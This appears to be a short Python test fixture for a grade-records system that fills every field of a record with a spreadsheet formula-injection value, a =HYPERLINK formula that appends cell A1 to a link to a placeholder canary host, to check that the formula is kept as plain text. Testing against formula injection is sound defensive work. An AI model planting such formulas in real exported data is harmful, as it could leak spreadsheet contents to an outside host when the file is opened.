"""A formula as a name, which a spreadsheet runs when the grades are opened. It is made a text."""

from hostile_record import everywhere

from gradschool.records.record import Record


def make() -> list[Record]:
    return [everywhere('=HYPERLINK("http://canary.invalid/?"&A1,"canary")')]
